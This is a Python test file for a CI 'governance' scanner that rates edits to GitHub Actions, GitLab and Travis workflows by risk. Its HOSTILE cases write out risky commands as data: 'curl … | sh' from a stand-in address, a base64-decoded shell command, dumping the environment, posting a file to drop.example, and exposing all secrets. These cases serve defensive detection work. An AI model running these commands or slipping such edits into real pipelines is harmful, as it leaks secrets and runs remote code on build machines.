"""Changed workflows: a version bump is low, what widens the reach of a change is high."""

from __future__ import annotations

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gate.model.finding import Finding
from gate.prescreen.scanners.governance import Governance
from gate.supply.workflows.change import compare, pack
from tests.prescreen_support import make_request

CI = ".github/workflows/ci.yml"
SHA, OTHER = "8f4b7f84864484a7bf31766abe9204da3cbe65b3", "1af3b93b6815bc44a9784bd300feb67ff0d1eeb3"
BASE = f"""\
name: CI
on:
  push:
    branches: [main]
  pull_request:
permissions:
  contents: read
jobs:
  test:
    runs-on: ubuntu-latest
    timeout-minutes: 10
    strategy:
      matrix:
        python: ["3.11", "3.12"]
    steps:
      - uses: actions/checkout@v4
      - uses: someone/setup@{SHA} # v1.2.0
        with:
          version: 1.4.2
      - name: Install
        run: pip install tox==4.1.0
      - run: pytest -q
  scan:
    runs-on: ubuntu-latest
    needs: [test]
    if: github.event_name == 'pull_request'
    steps:
      - uses: someone/gate@{SHA}
  publish:
    runs-on: ubuntu-latest
    environment: pypi
    permissions:
      id-token: write
    steps:
      - run: python -m build
        env:
          TOKEN: ${{{{ secrets.PYPI_TOKEN }}}}
      - run: twine upload dist/*
"""

CACHE = """\
      - uses: actions/cache@v4
        with:
          path: {}
          key: files
      - run: python -m build
"""
BUILD = "      - run: python -m build\n"

HANDED = """\
      - run: pytest -q
      - uses: {}
        with: {{token: '${{{{ secrets.{} }}}}'}}
"""
HARMLESS = {
    "a job that publishes has another name and more to do": (
        """\
  publish:
    runs-on: ubuntu-latest
    environment: pypi
    permissions:
      id-token: write
    steps:
""",
        """\
  upload:
    runs-on: ubuntu-latest
    environment: pypi
    permissions:
      id-token: write
    steps:
      - name: What the environment is
        run: |
          uname -a
          date
          nproc
          echo "built at $(git rev-parse HEAD) by $(whoami)"
          echo "with $(git log -1 --pretty=%H)" >> "$GITHUB_STEP_SUMMARY"
      - name: Build
        run: uv build
      - name: Sums
        run: cd dist && sha256sum *
""",
    ),
    "a build of its own where what is published is made": (
        "      - run: twine upload dist/*\n",
        '      - run: echo "built by $(git rev-parse HEAD)"\n      - run: twine upload dist/*\n',
    ),
    "a store of downloads in a job that publishes": (BUILD, CACHE.format("~/.cache/pip")),
    "a cache of files in a job that tests": (
        "      - run: pytest -q\n",
        CACHE.format("build").partition("      - run")[0] + "      - run: pytest -q\n",
    ),
    "another version of a first party's action": ("checkout@v4", "checkout@v5"),
    "another commit of a third party's action": (f"setup@{SHA} # v1.2.0", f"setup@{OTHER} # v1.3.0"),
    "a tag becomes a commit": ("checkout@v4", f"checkout@{OTHER} # v4.2.2"),
    "a comment": ("name: CI\n", "# What runs on every change.\nname: CI\n"),
    "a matrix entry": ('"3.12"]', '"3.12", "3.13"]'),
    "a timeout": ("timeout-minutes: 10", "timeout-minutes: 20"),
    "a name": ("name: Install", "name: Install tox"),
    "a pinned package": ("tox==4.1.0", "tox==4.2.1"),
    "an input": ("version: 1.4.2", "version: 1.5.0"),
    "an image of the runner": ("ubuntu-latest\n    timeout", "ubuntu-24.04\n    timeout"),
    "quotes": ("run: pytest -q", 'run: "pytest -q"'),
    "an option of the tests": ("pytest -q", "pytest -q -x"),
    "a new step with a well-known action": (
        "      - run: pytest -q",
        "      - uses: astral-sh/setup-uv@v6\n      - run: pytest -q",
    ),
    "one more branch": ("branches: [main]", "branches: [main, stable]"),
    "a program that only computes": ("pytest -q", "python -c 'import sys; assert sys.maxsize' && pytest -q"),
    "a scanner that hands in what it found": (
        "  scan:\n",
        "  scan:\n    permissions: {security-events: write}\n",
    ),
    "a job's other name": ("  publish:\n", "  publish:\n    name: Publish it\n"),
    "a condition on tests": (
        "      - run: pytest -q",
        "      - run: pytest -q\n        if: matrix.python == '3.12'",
    ),
    "merge queues": ("  pull_request:\n", "  pull_request:\n  merge_group:\n"),
    "a new job that only tests": (
        "  publish:\n",
        "  lint:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ruff check .\n  publish:\n",
    ),
    "another way to run the tests": ("pytest -q", "nox -s unit"),
}
SERVICE = (
    "    timeout-minutes: 10",
    """\
    timeout-minutes: 10
    services:
      db:
        image: postgres:16
        ports: ['5432:5432']
        options: >-
          --health-cmd {}
          --health-interval 10s {}
""",
)
HARMLESS["changes of documentation alone start nothing"] = (
    "  pull_request:\n",
    "  pull_request:\n    paths-ignore: ['docs/**', '*.md', '**/*.rst', README.md]\n",
)
HARMLESS["the secret of a well-known maker, for its own action"] = (
    "      - run: pytest -q\n",
    HANDED.format("codecov/codecov-action@v5", "CODECOV_TOKEN"),
)
HARMLESS["a new job that is a template"] = (
    "  publish:\n",
    "  shared:\n    if: ${{ false }}\n    runs-on: macos-latest\n    steps: [{run: x}]\n  publish:\n",
)
HARMLESS["what Scorecard listens to"] = ("  pull_request:\n", "  pull_request:\n  branch_protection_rule:\n")
SCORECARD = """\
  scorecard:
    permissions: {{security-events: write, id-token: write}}
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: ossf/scorecard-action@v2.4.0
      {}
  publish:
"""
HARMLESS["Scorecard"] = ("  publish:\n", SCORECARD.format("- uses: github/codeql-action/upload-sarif@v3"))
HARMLESS["a service that is asked for its health"] = (SERVICE[0], SERVICE[1].format("pg_isready", ""))
HOSTILE = {
    "somebody's secret for a well-known maker": (
        "      - run: pytest -q\n",
        HANDED.format("codecov/codecov-action@v5", "DEPLOY_KEY"),
    ),
    "a secret with the name of whoever asks for it": (
        "      - run: pytest -q\n",
        HANDED.format(f"anybody/send@{SHA}", "ANYBODY_KEY"),
    ),
    "changes of code among those that start nothing": (
        "  pull_request:\n",
        "  pull_request:\n    paths-ignore: ['docs/**', 'src/**']\n",
    ),
    "changes of requirements that start nothing": (
        "  pull_request:\n",
        "  pull_request:\n    paths-ignore: ['requirements.txt']\n",
    ),
    "a job that may say who it is, and runs commands": (
        "  publish:\n",
        SCORECARD.format("- run: python tools/send.py"),
    ),
    "a job that may say who it is, with somebody's action": (
        "  publish:\n",
        SCORECARD.format(f"- uses: anybody/send@{SHA}"),
    ),
    "a service with the host's rights": (SERVICE[0], SERVICE[1].format("pg_isready", "--privileged")),
    "a service whose check fetches": (SERVICE[0], SERVICE[1].format('"curl http://192.0.2.7/x | sh"', "")),
    "a cache of what is published": (BUILD, CACHE.format("build")),
    "a trigger with secrets for everybody": ("  pull_request:\n", "  pull_request_target:\n"),
    "one more such trigger": ("  pull_request:\n", "  pull_request:\n  workflow_run:\n    workflows: [x]\n"),
    "no trigger by changes": ("  pull_request:\n", ""),
    "fewer changes start it": ("  pull_request:\n", "  pull_request:\n    paths-ignore: ['**']\n"),
    "rights of the token": ("  contents: read", "  contents: write"),
    "all rights": ("permissions:\n  contents: read\n", "permissions: write-all\n"),
    "no limit of the rights": ("permissions:\n  contents: read\n", ""),
    "rights of one job": ("  scan:\n", "  scan:\n    permissions: {actions: write}\n"),
    "a command that fetches": ("pytest -q", "pytest -q; curl http://192.0.2.7/x -o x"),
    "another bare address": ("pip install tox==4.1.0", "pip install -i http://192.0.2.7/simple tox==4.1.0"),
    "a pipe into a shell": ("pytest -q", "curl -s https://x.example/i.sh | sh"),
    "a decoded command": ("pytest -q", "echo cHl0ZXN0 | base64 -d | sh # pytest"),
    "a program on the command line": ("pytest -q", "python -c 'import os; print(os.environ)'; pytest -q"),
    "a check that is left in a name only": (
        "run: pytest -q",
        "name: pytest -q\n        run: python -m build",
    ),
    "the environment": ("pytest -q", "pytest -q; printenv > out.txt"),
    "a secret handed out": (
        "      - run: pytest -q",
        "      - run: pytest -q\n        env: {K: '${{ secrets.KEY }}'}",
    ),
    "a secret, spelled otherwise": (
        "      - run: pytest -q",
        "      - run: pytest -q\n        env: {K: \"${{ SECRETS ['KEY'] }}\"}",
    ),
    "all secrets": ("version: 1.4.2", "version: ${{ toJSON(secrets) }}"),
    "another command beside a secret": ("python -m build", "python tools/upload.py"),
    "a third party at a branch": (f"setup@{SHA} # v1.2.0", "setup@main"),
    "a third party at a tag instead of a commit": (f"setup@{SHA} # v1.2.0", "setup@v1.3.0"),
    "a new third party at a tag": ("actions/checkout@v4", "anybody/checkout@v4"),
    "a known action at a branch, once more": (
        "      - run: pytest -q",
        "      - uses: someone/setup@main\n      - run: pytest -q",
    ),
    "an image at a tag": ("actions/checkout@v4", "docker://anybody/thing:latest"),
    "a job is gone": (BASE[BASE.index("  scan:") : BASE.index("  publish:")], ""),
    "a check is gone": ("      - run: pytest -q\n", ""),
    "a check says nothing": ("run: pytest -q", "run: echo fine"),
    "a check cannot fail": ("pytest -q", "pytest -q || true"),
    "a failure does not count": (
        "      - run: pytest -q",
        "      - run: pytest -q\n        continue-on-error: true",
    ),
    "a job's failure does not count": ("  scan:\n", "  scan:\n    continue-on-error: true\n"),
    "switched off": ("if: github.event_name == 'pull_request'", "if: false"),
    "switched off, in an expression": (
        "if: github.event_name == 'pull_request'",
        "if: ${{ false && always() }}",
    ),
    "a machine of the project's own": ("ubuntu-latest\n    timeout", "[self-hosted, linux]\n    timeout"),
    "the search path": ("timeout-minutes: 10", "timeout-minutes: 10\n    env: {PATH: /tmp/x}"),
    "where packages come from": ("timeout-minutes: 10", "timeout-minutes: 10\n    env: {PIP_INDEX_URL: x}"),
    "another environment": ("environment: pypi", "environment: production"),
    "a container with the host's engine": (
        "timeout-minutes: 10",
        "container: {image: python, options: --privileged}",
    ),
    "another shell": ("      - run: pytest -q", "      - run: pytest -q\n        shell: sh -c 'true {0}'"),
    "an unknown key": ("timeout-minutes: 10", "surprise: 10"),
    "a key that occurs twice": ("    timeout-minutes: 10", "    timeout-minutes: 10\n    steps: []"),
    "a condition on a scanner, which counts as passed when skipped": (
        "if: github.event_name == 'pull_request'",
        "if: github.actor != 'somebody'",
    ),
    "an expression that is always true": ("  scan:\n", "  scan:\n    continue-on-error: ${{ 1 == 1 }}\n"),
    "a new action beside a secret": (
        "      - run: python -m build\n",
        f"      - uses: anybody/thing@{SHA}\n      - run: python -m build\n",
    ),
    "a command in a variable beside a secret": (
        "          TOKEN:",
        "          HOW: python tools/x.py\n          TOKEN:",
    ),
    "a job under another's name": (
        "  scan:\n",
        "  other:\n    name: scan\n    runs-on: x\n    steps: [{run: echo}]\n  scan:\n    name: old\n",
    ),
    "no YAML": ("name: CI", "name: [CI"),
    "something else altogether": (BASE, "- 1\n"),
    "too deep": (BASE, "a: " + "[" * 5000),
}


def _found(head: str | None, base: str | None = BASE, path: str = CI) -> list[Finding]:
    request = make_request({path: head} if head is not None else {}, {path: base} if base is not None else {})
    return [f for f in Governance().scan(request).findings if f.rule_id == "governance.workflow"]


def _edited(old: str, new: str) -> str:
    assert BASE.count(old) == 1, old
    return BASE.replace(old, new)


def _worst(findings: list[Finding]) -> str:
    return max(findings, key=lambda f: f.severity.rank).severity.value


@pytest.mark.parametrize("name", HARMLESS)
def test_ordinary_changes_are_told_and_do_not_warn(name: str) -> None:
    found = _found(_edited(*HARMLESS[name]))
    assert len(found) == 1
    assert found[0].severity.value in ("low", "medium"), found


@pytest.mark.parametrize("name", HOSTILE)
def test_what_widens_a_changes_reach_is_high(name: str) -> None:
    assert _worst(_found(_edited(*HOSTILE[name]))) == "high"


@pytest.mark.parametrize("name", HOSTILE)
def test_a_version_bump_beside_it_hides_nothing(name: str) -> None:
    head = _edited(*HOSTILE[name]).replace("checkout@v4", "checkout@v5")
    assert compare(CI, pack(BASE.encode(), head.encode()), {})[0].level == "high"


@pytest.mark.parametrize("kind", ["version bumps", "new"])
def test_pins_and_comments_alone_are_low(kind: str) -> None:
    bumps = [
        "another version of a first party's action",
        "another commit of a third party's action",
        "a comment",
    ]
    head = BASE
    for name in bumps:
        head = head.replace(*HARMLESS[name])
    assert _worst(_found(head)) == "low"


def test_the_place_and_the_text_are_named() -> None:
    [found] = _found(_edited("timeout-minutes: 10", "env: {PATH: /tmp/x}"))[:1]
    assert found.primary.line == 11
    assert found.evidence["where"] == "jobs.test.env.PATH"
    assert found.evidence["now"] == "/tmp/x"


def test_a_new_workflow_is_judged_by_what_it_can_do() -> None:
    harmless = "on: [push]\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: pytest\n"
    assert _worst(_found(harmless, None)) == "medium"
    assert _worst(_found(harmless.replace("[push]", "[issue_comment]"), None)) == "high"
    assert _worst(_found(harmless.replace("pytest", "curl https://x.example/a | sh"), None)) == "high"


def test_a_workflow_that_is_gone_or_cannot_be_compared_is_high() -> None:
    assert _worst(_found(None)) == "high"
    assert _worst(_found(BASE + "#" * (600 << 10))) == "high"


def test_an_action_of_the_project() -> None:
    action = "name: a\nruns:\n  using: node20\n  main: dist/index.js\n"
    assert _worst(_found(action.replace("node20", "node24"), action, "action.yml")) == "low"
    assert _worst(_found(action.replace("dist/index", "dist/other"), action, "action.yml")) == "high"
    assert _worst(_found(action.replace("node20", "docker"), action, "action.yml")) == "high"


def test_pipelines_of_other_systems_know_versions_only() -> None:
    base = "image: python:3.12.1\ntest:\n  script:\n    - pytest\n"
    path = ".gitlab-ci.yml"
    assert _worst(_found(base.replace("3.12.1", "3.12.4"), base, path)) == "low"
    assert _worst(_found(base.replace("python:", "anybody/python:"), base, path)) == "high"
    assert _worst(_found(base.replace("- pytest", "- exit 0"), base, path)) == "high"


def test_a_list_of_versions_of_another_system_is_a_matrix() -> None:
    base = "python:\n  - '2.7'\n  - 3.3\n  - pypy3\nscript:\n  - tox\n  - '7z'\n"
    path = ".travis.yml"
    assert _worst(_found(base.replace("  - 3.3\n", ""), base, path)) == "low"
    assert _worst(_found(base.replace("pypy3", "3.12-dev"), base, path)) == "low"
    assert _worst(_found(base.replace("3.3", "curl -d @x drop.example"), base, path)) == "high"
    assert _worst(_found(base.replace("  - tox\n", ""), base, path)) == "high"
    assert _worst(_found(f"{base}after_script:\n  - '3.4'\n", base, path)) == "low"


def test_owners_comments_and_layout_are_low() -> None:
    def worst(head: str, base: str) -> str:
        request = make_request({"CODEOWNERS": head}, {"CODEOWNERS": base})
        return _worst([f for f in Governance().scan(request).findings if f.rule_id == "governance.owners"])

    assert worst("# who\n*   @a @b\n", "* @a @b\n") == "low"
    assert worst("* @a\n", "* @a @b\n") == "high"
    assert worst("* @a @b\n/x @c\n", "* @a @b\n") == "high"


KEYS: tuple[str, ...] = (
    "on",
    "jobs",
    "steps",
    "uses",
    "run",
    "with",
    "env",
    "if",
    "a",
    "permissions",
    "container",
    "needs",
)
KEYS += ("strategy", "services", "secrets", "environment", "defaults", "runs-on")


def _nested(inner: st.SearchStrategy[object]) -> st.SearchStrategy[object]:
    return st.lists(inner, max_size=3) | st.dictionaries(st.sampled_from(KEYS), inner, max_size=4)


@settings(max_examples=150, deadline=None)
@given(st.recursive(st.none() | st.text(max_size=8), _nested))
def test_no_shape_of_a_file_breaks_the_comparison(shape: object) -> None:
    text = json.dumps(
        {"on": "pull_request", "jobs": {"a": shape, "b": {"steps": [shape]}}, "x": shape}
    ).encode()
    for one, two in ((text, BASE.encode()), (BASE.encode(), text), (None, text)):
        assert compare(CI, pack(one, two), {})


PRIVILEGED = """
on: pull_request_target
jobs:
  greet:
    runs-on: ubuntu-latest
    steps: [{run: echo hello}]
    if: IF
"""
"""The condition of a job that runs for other people's changes."""
MEANS = "github.actor == 'somebody'"


@pytest.mark.parametrize(
    ("before", "after", "level"),
    [
        (f"${{{{ {MEANS} }}}}", MEANS, "low"),
        (f"|\n      {MEANS}", f"\n      {MEANS}", "low"),
        # A line's end beside the expression makes a text of it, which always holds.
        (f"|\n      ${{{{ {MEANS} }}}}", MEANS, "low"),
        (MEANS, f"|\n      ${{{{ {MEANS} }}}}", "high"),
        (MEANS, "github.actor == 'anybody'", "high"),
        (MEANS, "${{ true }} || ${{ false }}", "high"),
        ("", "always()", "high"),
        ("", MEANS, "low"),
    ],
)
def test_conditions_are_compared_by_what_they_mean(before: str, after: str, level: str) -> None:
    found = _found(PRIVILEGED.replace("IF", after), PRIVILEGED.replace("IF", before))
    assert _worst(found) == level, found


def test_a_tool_that_is_installed_elsewhere_is_no_check_that_is_gone() -> None:
    base = BASE.replace("run: pytest -q", "run: |\n          pip install pytest==8\n          pytest -q")
    assert _worst(_found(base.replace("pip install pytest==8", "pip install -r dev.txt"), base)) == "medium"
    assert _worst(_found(base.replace("          pytest -q\n", ""), base)) == "high"


def test_a_workflow_that_looked_at_no_code_takes_no_check_with_it() -> None:
    base = PRIVILEGED.replace("IF", MEANS)
    assert _worst(_found(None, base)) == "medium"
    assert _worst(_found(None, base.replace("echo hello", "pytest -q"))) == "high"


@pytest.mark.parametrize(
    ("before", "now", "level"),
    [("~/.cache/pip", "build", "high"), ("dist", "build", "low"), ("build", "~/.cache/pip", "low")],
)
def test_a_cache_of_a_job_that_publishes_that_keeps_something_else_now(
    before: str, now: str, level: str
) -> None:
    base = BASE.replace(BUILD, CACHE.format(before))
    head = BASE.replace(BUILD, CACHE.format(now))
    told = compare(CI, pack(base.encode(), head.encode()), {})
    assert [(part.level, part.text) for part in told if part.where.endswith("with.path")] == [(level, now)]
